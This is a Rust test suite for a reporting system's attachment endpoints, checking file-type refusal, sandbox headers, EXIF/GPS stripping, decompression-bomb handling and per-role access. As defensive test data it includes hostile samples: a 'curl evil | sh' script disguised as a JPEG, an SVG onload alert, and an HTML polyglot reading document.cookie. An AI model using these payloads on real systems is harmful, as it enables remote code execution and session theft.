//! Proof: pictures and documents at a whistle, by REST and by pages (T25, T26, T39). What comes in is one of eight kinds
//! or nothing; what goes out is our own drawing or a download; who sees which follows the whistle.

mod bounds;
mod keeping;
mod visits;

use crate::town::browser::hidden;
use crate::town::files::{FORM_OF_FILES, GPS, bomb, dots, encoded, files, jpeg, phone_jpeg};
use crate::town::{Reply, Town, blow_order, town};
use serde_json::{Value, json};

const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n";

/// A whistle of XF about a firm in T06, to which YJ is summoned.
pub(crate) async fn summoned(t: &Town, protected: bool) -> String {
    let order = json!({ "category": "fire", "what": "附件", "enterprise": "E01", "protected_source": protected });
    let code = t.fire().blows(&order).await;
    t.office().summons(&code, &["YJ"], "urgent").await;
    code
}

fn sandboxed(reply: &Reply) -> bool {
    reply.header("content-security-policy") == Some("sandbox; default-src 'none'")
        && reply.header("x-content-type-options") == Some("nosniff")
        && reply.header("cross-origin-resource-policy") == Some("same-origin")
        && reply.header("cache-control") == Some("no-store")
}

fn contains(all: &[u8], part: &[u8]) -> bool {
    all.windows(part.len()).any(|window| window == part)
}

#[actix_web::test]
async fn proof_is_attached_listed_told_and_given_out() {
    town(async |t| {
        let code = summoned(t, false).await;
        let picture = jpeg(2_000, 1_000);
        let sent = [("现场 1.jpg", &picture[..]), ("报告.pdf", PDF)];
        let made = t.fire().sends(&code, &sent).await.expect(201);
        let before = t.office().get(&format!("/whistles/{code}")).await.version();
        let items = made.json()["items"].clone();
        let told = |item: &Value| json!([item["name"], item["format"], item["drawn"], item["original"], item["bytes"]]);
        assert_eq!(told(&items[0]), json!(["现场 1.jpg", "jpeg", true, true, picture.len()]));
        assert_eq!(told(&items[1]), json!(["报告.pdf", "pdf", false, true, PDF.len()]));
        assert_eq!(items[0]["by"]["department"], "XF");
        let seen = t.emergency().sees(&format!("/whistles/{code}")).await["attachments"].clone();
        assert_eq!(seen[0]["id"], items[0]["id"]);
        assert_eq!((&seen[0]["original"], &seen[1]["original"]), (&json!(false), &json!(true)));
        assert_eq!(t.office().get(&format!("/whistles/{code}")).await.version(), before, "proof moves nothing");
        let events: Vec<Value> = t.emergency().walks(&format!("/whistles/{code}/timeline"), 200).await;
        let told: Vec<&Value> = events.iter().filter(|one| one["kind"] == "whistle.attached").collect();
        assert_eq!((told.len(), &told[0]["data"]["name"]), (2, &json!("现场 1.jpg")));
        assert_eq!(told[0]["data"]["sha256"], items[0]["sha256"]);
        let address = |item: &Value| format!("/attachments/{}", item["id"].as_str().unwrap());
        let copy = t.emergency().get(&address(&items[0])).await.expect(200);
        assert_eq!(copy.header("content-type"), Some("image/jpeg"));
        assert_eq!(copy.header("content-disposition"), Some(&*format!("inline; filename=\"{code}-1.jpg\"")));
        assert!(sandboxed(&copy), "{:?}", copy.headers);
        let drawn = image::load_from_memory(&copy.body).unwrap();
        assert_eq!((drawn.width(), drawn.height()), (1_600, 800));
        let paper = t.emergency().get(&address(&items[1])).await.expect(200);
        assert_eq!(paper.header("content-disposition"), Some(&*format!("attachment; filename=\"{code}-2.pdf\"")));
        assert!(sandboxed(&paper) && paper.body == PDF);
        let bad = t.emergency().get(&format!("{}?original=x", address(&items[1]))).await;
        assert_eq!((bad.status, t.emergency().get("/attachments/at_0?original=x").await.status), (400, 404));
    })
    .await;
}

#[actix_web::test]
async fn a_repeat_attaches_nothing_more_however_its_form_was_made() {
    town(async |t| {
        let code = summoned(t, false).await;
        let picture = jpeg(40, 30);
        let ask = async |content: &[u8], edge: &str| {
            let body = files(&[], &[("a.jpg", content)]);
            let body = replaced(&body, b"edge-of-files", edge.as_bytes());
            let ask = t.fire().ask("POST", &format!("/whistles/{code}/attachments")).await.key("key-attach-1");
            ask.raw(&format!("multipart/form-data; boundary={edge}"), body).send().await
        };
        let first = ask(&picture, "one").await.expect(201);
        let again = ask(&picture, "another").await.expect(201);
        assert_eq!((again.header("idempotency-replayed"), again.json()), (Some("true"), first.json()));
        assert_eq!(ask(PDF, "one").await.expect(422).problem(), "key_reused");
        let seen = t.fire().sees(&format!("/whistles/{code}")).await;
        assert_eq!(seen["attachments"].as_array().unwrap().len(), 1);
        let short = t.fire().ask("POST", &format!("/whistles/{code}/attachments")).await.key("short");
        assert_eq!(short.raw(FORM_OF_FILES, files(&[], &[("a.jpg", &picture)])).send().await.problem(), "bad_key");
    })
    .await;
}

fn replaced(all: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let (mut out, mut at) = (Vec::new(), 0);
    while at < all.len() {
        match all[at..].starts_with(from) {
            true => {
                out.extend(to);
                at += from.len();
            }
            false => {
                out.push(all[at]);
                at += 1;
            }
        }
    }
    out
}

#[actix_web::test]
async fn t25_polyglot_is_never_inline() {
    town(async |t| {
        let code = summoned(t, false).await;
        const SCRIPT: &[u8] = b"<html><script>alert(document.cookie)</script>PK\x05\x06";
        let both = [&jpeg(60, 40)[..], SCRIPT].concat();
        let paper = [PDF, SCRIPT].concat();
        let items = t.fire().sends(&code, &[("a.jpg", &both), ("b.pdf", &paper)]).await.expect(201).json();
        for item in items["items"].as_array().unwrap() {
            let address = format!("/attachments/{}", item["id"].as_str().unwrap());
            for path in [address.clone(), format!("{address}?original=true")] {
                let reply = t.office().get(&path).await.expect(200);
                assert!(sandboxed(&reply), "{path}");
                let inline = reply.header("content-disposition").unwrap().starts_with("inline");
                // What a browser may show has been drawn by us; what holds anything else is only ever saved.
                assert_eq!(inline, !contains(&reply.body, b"script"), "{path}");
                assert_eq!(inline, item["drawn"] == true && !path.ends_with("=true"), "{path}");
            }
            let page = t.signed_in("office").await.get(&format!("/console{address}")).await.expect(200);
            assert!(sandboxed(&page));
        }
    })
    .await;
}

#[actix_web::test]
async fn t25_what_is_none_of_the_kinds_is_refused_by_name_with_the_reason_and_nothing_is_kept() {
    town(async |t| {
        let code = summoned(t, false).await;
        let good = jpeg(20, 20);
        let sent: [(&str, &[u8]); 8] = [
            ("好.jpg", &good),
            ("照片.jpg", b"#!/bin/sh\ncurl evil | sh\n"),
            ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
            ("页.pdf", b"<!doctype html><script>alert(1)</script>"),
            ("程序.png", b"MZ\x90\0\x03"),
            ("包.docx", b"PK\x03\x04 not a container"),
            ("改名.png", &good),
            ("空.jpg", b""),
        ];
        let before = t.db_events().await;
        let refused = t.fire().sends(&code, &sent).await.expect(422);
        let faults = refused.faults();
        assert_eq!(faults, (1..8).map(|place| format!("/files/{place} unfit")).collect::<Vec<_>>());
        let said: Vec<Value> =
            refused.json()["errors"].as_array().unwrap().iter().map(|one| one["message"].clone()).collect();
        assert!(said[0].as_str().unwrap().contains("脚本") && said[5].as_str().unwrap().contains("后缀"), "{said:?}");
        assert_eq!(t.db_events().await, before);
        let browser = t.signed_in("liaison.xf").await;
        let own = format!("/console/whistles/{code}");
        let csrf = hidden(&browser.get(&own).await.expect(200), "csrf");
        let page = browser.sends(&format!("{own}/attachments"), &[("csrf", &csrf)], &sent[..2]).await.expect(422);
        assert!(page.text().contains("照片.jpg：内容是程序、脚本或者网页"), "the reason is not told by name");
        assert_eq!(t.db_events().await, before);
        assert_eq!(t.fire().sends(&code, &[]).await.expect(422).faults(), ["/files missing"]);
    })
    .await;
}

#[actix_web::test]
async fn t26_no_gps() {
    town(async |t| {
        let code = summoned(t, false).await;
        let taken = phone_jpeg(400, 300);
        assert!(contains(&taken, GPS));
        let item = t.fire().attaches(&code, "IMG_1.jpg", &taken).await;
        let address = format!("/attachments/{}", item["id"].as_str().unwrap());
        for who in ["liaison.yj", "office", "liaison.xf", "supervisor", "town.t06"] {
            let copy = t.person(who).get(&address).await.expect(200).body;
            assert!(!contains(&copy, b"GPS") && !contains(&copy, b"Exif"), "{who} sees where it was taken");
            // It lay on its side: upright, what was its left edge is its top.
            let drawn = image::load_from_memory(&copy).unwrap().to_rgb8();
            assert_eq!(drawn.dimensions(), (300, 400), "{who}");
            let (was, is) = (dots(400, 300), drawn);
            let (left, top) = (was.get_pixel(5, 150).0, is.get_pixel(150, 5).0);
            assert!((0..3).all(|part| left[part].abs_diff(top[part]) < 12), "{left:?} {top:?}");
            let original = t.person(who).get(&format!("{address}?original=true")).await;
            let may = ["office", "liaison.xf"].contains(&who);
            assert_eq!(original.status, if may { 200 } else { 403 }, "{who}");
            assert!(!may || original.body == taken, "the proof itself is as it came");
        }
    })
    .await;
}

#[actix_web::test]
async fn t26_bomb_costs_nothing() {
    town(async |t| {
        let code = summoned(t, false).await;
        for (width, height) in [(60_000, 60_000), (11_000, 11_000), (12_001, 10)] {
            let bomb = bomb(width, height);
            assert!(bomb.len() < 100_000);
            let item = t.fire().attaches(&code, "a.png", &bomb).await;
            assert_eq!(item["drawn"], false, "{width} × {height}");
        }
        // One that says it is small and is broken inside.
        let mut broken = encoded(50, 50, image::ImageFormat::Png);
        let middle = broken.len() / 2;
        broken[middle..].fill(0xff);
        let item = t.fire().attaches(&code, "b.png", &broken).await;
        let address = format!("/attachments/{}", item["id"].as_str().unwrap());
        assert_eq!(item["drawn"], false);
        // The office has it as it came; to the others there is nothing to show.
        assert_eq!(t.office().get(&address).await.expect(200).body, broken);
        t.emergency().get(&address).await.expect(403);
        let whole = encoded(50, 50, image::ImageFormat::WebP);
        assert_eq!(t.fire().attaches(&code, "c.webp", &whole).await["drawn"], true);
    })
    .await;
}

#[actix_web::test]
async fn i4_pictures_of_a_protected_whistle_are_seen_by_the_office_and_who_brought_them() {
    town(async |t| {
        let code = summoned(t, true).await;
        t.advance(1).await;
        let readers = ["head.xf", "liaison.yj", "head.yj", "inspector.yj", "town.t06", "squad.sq06"];
        let path = format!("/whistles/{code}");
        let known = async |who: &'static str| {
            let (whistle, past) =
                (t.person(who).get(&path).await, t.person(who).get(&format!("{path}/timeline")).await);
            let other = t.person(who).get(&format!("{path}/timeline?limit=1")).await.json()["items"].clone();
            format!("{} {} {other}", whistle.sameness(), past.sameness())
        };
        let mut before = Vec::new();
        for who in readers {
            before.push(known(who).await);
        }
        let item = t.fire().attaches(&code, "人.jpg", &phone_jpeg(80, 60)).await;
        let address = format!("/attachments/{}", item["id"].as_str().unwrap());
        t.settle().await;
        for (who, before) in readers.into_iter().zip(before) {
            assert_eq!(known(who).await, before, "{who} learns of it");
            let there = t.person(who).get(&address).await.expect(404);
            let none = t.person(who).get("/attachments/at_nothing").await.expect(404);
            assert_eq!(there.sameness(), none.sameness(), "{who}");
            let page = t.signed_in(who).await.get(&format!("/console{path}")).await.expect(200).text();
            assert!(!page.contains("人.jpg") && !page.contains("at_"), "{who} reads it");
        }
        for who in ["office", "director", "liaison.xf"] {
            t.person(who).get(&address).await.expect(200);
            assert!(t.person(who).sees(&path).await["attachments"][0]["by"]["name"].is_null(), "a person is named");
        }
        assert!(t.office().kinds(&code).await.contains(&"whistle.attached".to_owned()));
        // A document shows no face.
        t.fire().attaches(&code, "表.pdf", PDF).await;
        assert_eq!(t.emergency().sees(&path).await["attachments"][0]["name"], "表.pdf");
    })
    .await;
}

#[actix_web::test]
async fn i4_a_file_of_a_whistle_that_may_not_be_seen_is_not_there() {
    town(async |t| {
        let code = t.fire().blows(&blow_order("看不见的")).await;
        let item = t.fire().attaches(&code, "a.jpg", &jpeg(20, 20)).await;
        let address = format!("/attachments/{}", item["id"].as_str().unwrap());
        for who in ["liaison.sc", "head.yj", "inspector.xf", "town.t01", "expert.1", "admin"] {
            for query in ["", "?original=true"] {
                let there = t.person(who).get(&format!("{address}{query}")).await.expect(404);
                let none = t.person(who).get(&format!("/attachments/at_0{query}")).await.expect(404);
                assert_eq!(there.sameness(), none.sameness(), "{who}");
            }
            let refused = t.person(who).sends(&code, &[("b.jpg", &jpeg(9, 9))]).await.expect(404);
            let none = t.person(who).sends("WH-2026-9999", &[("b.jpg", &jpeg(9, 9))]).await.expect(404);
            assert_eq!(refused.sameness(), none.sameness(), "{who}");
        }
        assert_eq!(t.person("supervisor").sends(&code, &[("b.jpg", &jpeg(9, 9))]).await.status, 403);
    })
    .await;
}

#[actix_web::test]
async fn a_page_without_script_shows_and_takes_files() {
    town(async |t| {
        let code = summoned(t, false).await;
        let browser = t.signed_in("liaison.yj").await;
        let own = format!("/console/whistles/{code}");
        let shown = browser.get(&own).await.expect(200);
        let text = shown.text();
        assert!(text.contains("enctype=\"multipart/form-data\"") && text.contains("accept=\".jpg,.jpeg,"), "no form");
        let (csrf, key) = (hidden(&shown, "csrf"), hidden(&shown, "key"));
        let picture = phone_jpeg(60, 40);
        let fields = [("csrf", csrf.as_str()), ("key", key.as_str())];
        let to = format!("{own}/attachments");
        // A second press sends the same key, and counts once.
        for _ in 0..2 {
            let gone = browser.sends(&to, &fields, &[("门口<b>.jpg", &picture)]).await.expect(303);
            assert_eq!(gone.header("location"), Some(own.as_str()));
        }
        let page = browser.get(&own).await.expect(200).text();
        assert!(page.contains("已记录：添加附件") && page.contains("门口&#60;b&#62;.jpg"), "{page}");
        assert_eq!(page.matches("<img src=\"/console/attachments/at_").count(), 1);
        let address = page.split("<img src=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
        let copy = browser.get(&address).await.expect(200);
        assert!(sandboxed(&copy) && image::load_from_memory(&copy.body).is_ok());
        // Without the session's token, or from elsewhere, nothing is taken.
        for (csrf, status) in [("", 403), ("x", 403)] {
            assert_eq!(browser.sends(&to, &[("csrf", csrf)], &[("a.jpg", &picture)]).await.status, status);
        }
        let foreign = browser.ask("POST", &to).header("Sec-Fetch-Site", "same-site");
        let form = files(&[("csrf", &csrf)], &[("a.jpg", &picture)]);
        foreign.raw(FORM_OF_FILES, form).send().await.expect(403);
        assert_eq!(t.office().sees(&format!("/whistles/{code}")).await["attachments"].as_array().unwrap().len(), 1);
        // An empty chooser is told so.
        let none = browser.sends(&to, &[("csrf", &csrf)], &[("", b"")]).await.expect(422);
        assert!(none.text().contains("attach-files-fault"));
    })
    .await;
}
